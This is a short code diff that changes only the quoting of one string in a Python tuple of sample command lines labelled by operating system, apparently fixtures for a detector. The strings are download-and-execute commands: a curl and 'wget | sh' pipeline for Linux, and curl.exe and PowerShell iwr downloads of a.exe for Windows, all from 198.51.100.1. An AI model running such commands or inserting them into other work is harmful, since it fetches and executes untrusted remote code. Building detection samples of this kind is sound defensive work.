@@ -218,7 +218,7 @@ def warm() -> None:
 _COMMON = (
     ("curl -o /tmp/a http://198.51.100.1/a && sh -c 'wget -O- http://198.51.100.1/b | sh'", "linux"),
     ("cmd.exe /c curl.exe -o a.exe http://198.51.100.1/a.exe", "windows"),
-    ("powershell.exe -c \"iwr http://198.51.100.1/a -OutFile a.exe\"", "windows"),
+    ('powershell.exe -c "iwr http://198.51.100.1/a -OutFile a.exe"', "windows"),
 )
 
 
